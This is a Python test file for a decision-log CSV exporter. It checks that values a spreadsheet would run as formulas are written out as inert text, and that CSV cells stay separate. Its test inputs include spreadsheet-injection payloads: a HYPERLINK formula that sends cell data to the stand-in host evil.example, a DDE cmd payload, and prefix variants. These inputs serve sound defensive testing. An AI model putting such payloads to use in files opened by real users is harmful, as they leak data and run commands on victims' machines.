"""The log of decisions as text."""

import csv
import io

import pytest

from phoenix_tui.domain.decision_log import CSV_HEAD, as_csv
from phoenix_tui.domain.marks import Decision
from phoenix_tui.domain.request import LoraUse


def _rows(**changes: object) -> list[dict[str, str]]:
    values: dict[str, object] = {
        "number": 1, "at": "2026-11-23T11:45:02+00:00", "picture_id": "p", "batch_id": "b",
        "prompt": "a house", "seed": 42, "model": "demo", "favourite": True, "rating": 0,
        "discarded": False, "kept": True,
    }  # fmt: skip
    decision = Decision(**(values | changes))  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(CSV_HEAD + as_csv([decision]), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
        "\t=1", "\r=1", "\n=1", "＝1",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_run_is_text_there(text: str) -> None:
    for field in ("prompt", "model", "batch_id"):
        assert _rows(**{field: text})[0][field] == f"'{text}", "a spreadsheet runs it"
    use = LoraUse(name=text, weight=0.5)
    assert _rows(loras=(use,))[0]["loras"] == f"'{text}:0.5"


def test_cells_do_not_run_into_one_another() -> None:
    row = _rows(prompt='a, "house"\n=1+1,x', model="demo")[0]
    assert (row["prompt"], row["model"], row["seed"]) == ('a, "house"\n=1+1,x', "demo", "42")
